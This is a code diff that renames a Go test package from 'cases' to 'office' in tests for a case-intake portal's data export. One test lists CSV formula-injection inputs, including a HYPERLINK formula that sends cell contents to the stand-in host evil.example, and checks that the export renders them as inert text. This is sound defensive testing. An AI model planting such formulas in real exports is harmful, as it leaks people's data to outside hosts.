@@ -1,4 +1,4 @@
-package cases_test
+package office_test
 
 import (
 	"bytes"
@@ -8,13 +8,13 @@ import (
 	"testing"
 
 	"github.com/shaps-portal/shaps/intake"
-	"github.com/shaps-portal/shaps/intake/cases"
+	"github.com/shaps-portal/shaps/intake/office"
 )
 
 var knownAreas = []string{"Centro", "Medassino"}
 
-func exportCase(area string) cases.Case {
-	return cases.Case{ID: "1", Code: "VG-7K4M-Q2", ReceivedAt: t0, Status: cases.StatusNew,
+func exportCase(area string) office.Case {
+	return office.Case{ID: "1", Code: "VG-7K4M-Q2", ReceivedAt: t0, Status: office.StatusNew,
 		Request: intake.Request{Kind: "richiesta", Category: "salute", Area: area, Name: "Giulia Bianchi", Message: "Abito in via Emilia 12."}}
 }
 
@@ -33,7 +33,7 @@ func TestExportAreasAsPurgeKeepsThem(t *testing.T) {
 		{"no area", "", false, ""},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
-			rows := cases.Export([]cases.Case{exportCase(tc.area)}, knownAreas, tc.typed)
+			rows := office.Export([]office.Case{exportCase(tc.area)}, knownAreas, tc.typed)
 			if len(rows) != 1 || rows[0].Area != tc.want {
 				t.Fatalf("got %+v, want one row with area %q", rows, tc.want)
 			}
@@ -49,14 +49,14 @@ func TestExportAreasAsPurgeKeepsThem(t *testing.T) {
 // TestExportCSVHoldsNoFormula: cells a spreadsheet would run as formulas come out as text.
 func TestExportCSVHoldsNoFormula(t *testing.T) {
 	hostile := []string{`=HYPERLINK("https://evil.example/?"&A1,"Apri")`, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"}
-	var all []cases.Case
+	var all []office.Case
 	for _, h := range hostile {
 		c := exportCase(h)
 		c.Request.Kind = h
 		all = append(all, c)
 	}
 	var b bytes.Buffer
-	if err := cases.WriteExport(&b, "csv", cases.Export(all, knownAreas, true)); err != nil {
+	if err := office.WriteExport(&b, "csv", office.Export(all, knownAreas, true)); err != nil {
 		t.Fatal(err)
 	}
 	records, err := csv.NewReader(&b).ReadAll()
@@ -77,14 +77,14 @@ func TestExportCSVHoldsNoFormula(t *testing.T) {
 		}
 	}
 	b.Reset()
-	if err := cases.WriteExport(&b, "json", cases.Export(all[:1], knownAreas, true)); err != nil {
+	if err := office.WriteExport(&b, "json", office.Export(all[:1], knownAreas, true)); err != nil {
 		t.Fatal(err)
 	}
-	var rows []cases.ExportRow
+	var rows []office.ExportRow
 	if err := json.Unmarshal(b.Bytes(), &rows); err != nil || rows[0].Area != hostile[0] {
 		t.Errorf("JSON: got %+v (%v), want the value as it is: JSON has no formulas", rows, err)
 	}
-	if err := cases.WriteExport(&b, "xlsx", nil); err == nil {
+	if err := office.WriteExport(&b, "xlsx", nil); err == nil {
 		t.Errorf("format xlsx: got no error")
 	}
 }
